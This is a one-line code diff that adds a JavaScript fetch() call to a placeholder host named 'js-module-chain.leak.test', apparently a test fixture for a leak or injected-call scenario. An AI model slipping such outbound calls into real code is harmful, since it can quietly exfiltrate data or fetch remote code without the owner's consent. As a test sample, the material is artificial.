@@ -1,0 +1,1 @@
+fetch("https://js-module-chain.leak.test/")
